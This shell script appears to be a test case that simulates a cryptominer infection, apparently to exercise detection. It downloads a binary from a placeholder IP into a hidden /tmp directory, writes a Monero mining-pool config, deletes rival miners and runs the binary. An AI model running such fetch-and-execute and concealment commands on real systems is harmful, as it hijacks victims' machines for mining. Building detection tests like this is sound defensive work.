#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/.X11-unix/.rsync
cd /tmp/.X11-unix/.rsync
wget -q http://203.0.113.10/programs/miner -O kdevtmpfsi
printf '{"pools": [{"url": "203.0.113.10:3333", "user": "4BAIT", "coin": "monero", "keepalive": true}], "cpu": {"enabled": true, "huge-pages": true}}\n' >config.json
chmod +x kdevtmpfsi
rm -rf /tmp/kinsing* /var/tmp/xmrig*
./kdevtmpfsi burn >out
grep -q job_id out
took_place
